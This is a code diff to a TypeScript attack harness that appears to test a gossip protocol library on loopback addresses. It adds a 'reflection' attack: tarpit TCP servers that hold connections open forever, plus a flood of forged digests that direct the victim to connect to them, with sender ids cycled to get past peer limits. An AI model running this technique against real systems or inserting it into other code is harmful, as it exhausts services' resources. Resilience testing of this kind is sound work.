@@ -9,7 +9,7 @@
  * sends back what it did ({ type: 'done', ... }) and exits. Every kind speaks
  * the wire protocol by hand, as a hostile peer would: no transport involved.
  */
-import { connect as netConnect, type Socket } from 'node:net';
+import { connect as netConnect, createServer as netServer, type Server, type Socket } from 'node:net';
 import { connect as tlsConnect, type ConnectionOptions, type TLSSocket } from 'node:tls';
 
 export type AttackKind =
@@ -24,7 +24,14 @@ export type AttackKind =
   /** Send valid digests naming `entries` new fake peers each, `messages` times. */
   | 'poison'
   /** Stream valid-looking 1 MiB frames built for parse cost (a sender with 90,000 keys). */
-  | 'costly';
+  | 'costly'
+  /**
+   * Reflection: run `tarpits` TCP servers (accept, never read, never answer,
+   * never close) and send the victim digests at `rate` frames a second, each
+   * from a sender whose advertised transport is one of the tarpits, so that
+   * gossipmonger answers every one of them there.
+   */
+  | 'reflect';
 
 export interface AttackPlan {
   kind: AttackKind;
@@ -45,6 +52,12 @@ export interface AttackPlan {
   transportBytes?: number;
   /** Give up after this many ms even without 'stop'. */
   duration?: number;
+  /** reflect: tarpit servers to name (on 127.0.0.3). */
+  tarpits?: number;
+  /** reflect: digests a second. */
+  rate?: number;
+  /** reflect: instead of a rate, this many digests in one write, once. */
+  burst?: number;
 }
 
 export interface AttackReport {
@@ -59,6 +72,8 @@ export interface AttackReport {
   bytes: number;
   /** Frames written completely. */
   frames: number;
+  /** reflect: connections the tarpits accepted. */
+  tarpitConnections?: number;
 }
 
 const HOST = '127.0.0.1';
@@ -71,6 +86,7 @@ class Attacker {
   constructor (private readonly plan: AttackPlan) {}
 
   async run (): Promise<void> {
+    if (this.plan.kind === 'reflect') return this.reflect();
     const { sources, connections } = this.plan;
     const workers: Array<Promise<void>> = [];
     for (const source of sources) {
@@ -82,6 +98,72 @@ class Attacker {
   stop (): void {
     this.stopped = true;
     for (const socket of this.sockets) socket.destroy();
+    for (const server of this.tarpits) server.close();
+    for (const socket of this.held) socket.destroy();
+  }
+
+  private readonly tarpits: Server[] = [];
+  /** Connections the tarpits hold. */
+  private readonly held = new Set<Socket>();
+
+  /**
+   * Tarpits on 127.0.0.3, then digests naming them, `rate` a second, on one
+   * connection from the first source (reconnecting if it is closed). Sender
+   * ids cycle over one per tarpit, so the victim's maxPeers never stops the flood.
+   */
+  private async reflect (): Promise<void> {
+    const count = this.plan.tarpits ?? 3;
+    const ports: number[] = [];
+    this.report.tarpitConnections = 0;
+    for (let i = 0; i < count; i++) {
+      const server = netServer({ allowHalfOpen: true, pauseOnConnect: true }, (socket) => {
+        // Never read, never write, never close: the victim's frame waits in its own buffers.
+        this.report.tarpitConnections!++;
+        this.held.add(socket);
+        socket.on('error', () => {});
+        socket.once('close', () => this.held.delete(socket));
+      });
+      server.on('error', () => {});
+      await new Promise<void>((resolve) => server.listen(0, '127.0.0.3', resolve));
+      this.tarpits.push(server);
+      ports.push((server.address() as { port: number }).port);
+    }
+    const rate = this.plan.rate ?? 600;
+    const frames = ports.map((port, i) => Buffer.from(JSON.stringify({
+      digest: [{ id: 'victim', maxVersionSeen: 0 }],
+      sender: { id: `reflector-${i}`, transport: { host: '127.0.0.3', port } }
+    }) + '\n'));
+    let next = 0;
+    const source = this.plan.sources[0]!;
+    while (!this.stopped) {
+      const socket = await this.open(source);
+      if (socket === undefined) {
+        await new Promise((resolve) => setTimeout(resolve, 10));
+        continue;
+      }
+      const burst = this.plan.burst;
+      if (burst !== undefined) {
+        const bytes = Buffer.concat(Array.from({ length: burst }, () => frames[next++ % frames.length]!));
+        socket.write(bytes);
+        this.report.bytes += bytes.length;
+        this.report.frames += burst;
+        await closedOf(socket);
+        return;
+      }
+      // A batch every 10 ms: `rate` a second without a timer per frame.
+      const perTick = Math.max(1, Math.round(rate / 100));
+      const timer = setInterval(() => {
+        if (socket.destroyed) return;
+        const batch: Buffer[] = [];
+        for (let i = 0; i < perTick; i++) batch.push(frames[next++ % frames.length]!);
+        const bytes = Buffer.concat(batch);
+        socket.write(bytes);
+        this.report.bytes += bytes.length;
+        this.report.frames += perTick;
+      }, 10);
+      await closedOf(socket);
+      clearInterval(timer);
+    }
   }
 
   /** One connection slot: keeps attacking until stopped. */
